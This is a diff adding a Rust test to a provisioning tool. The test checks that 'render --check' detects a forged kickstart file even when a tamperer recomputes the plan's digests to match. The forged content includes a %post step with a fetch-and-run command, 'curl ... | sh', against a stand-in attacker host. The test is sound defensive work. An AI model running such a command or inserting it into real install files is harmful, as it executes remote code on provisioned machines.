@@ -207,3 +207,31 @@ fn a_change_to_an_included_template_is_rendered() {
     assert!(ks.contains("# provisioned by kiln, edited"), "{ks}");
     assert_eq!(kiln(r, &["render", "--check"]).code, 0);
 }
+
+/// A pull request that rewrites a rendered file and every digest that names
+/// it (its entry in the plan, the plan's own digest) still fails
+/// `render --check`: the check renders everything and compares, because
+/// digests anyone can recompute are not a signature.
+#[test]
+fn a_forged_out_with_a_consistent_plan_fails_the_check() {
+    let repo = example_copy(true);
+    let r = repo.path();
+    assert_eq!(kiln(r, &["render"]).code, 0);
+    let file = "install/node-01/ks.cfg";
+    let forged = format!(
+        "{}%post\ncurl -s http://attacker.example/x | sh\n%end\n",
+        std::fs::read_to_string(r.join("out/lab").join(file)).unwrap()
+    );
+    write(r, &format!("out/lab/{file}"), &forged);
+    let plan_path = r.join("out/lab/plan.json");
+    let mut plan: kiln_plan::Plan = serde_json::from_slice(&std::fs::read(&plan_path).unwrap()).unwrap();
+    let entry = plan.files.iter_mut().find(|f| f.path == file).unwrap();
+    entry.size = forged.len() as u64;
+    entry.sha256 = kiln_plan::sha256_hex(forged.as_bytes());
+    let bytes = plan.to_bytes();
+    assert!(kiln_plan::Plan::vouches(&bytes), "the forged plan is self-consistent");
+    std::fs::write(&plan_path, bytes).unwrap();
+    let run = kiln(r, &["render", "--check"]);
+    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+    assert!(run.stdout.contains(&format!("lab/{file}")), "{}", run.stdout);
+}
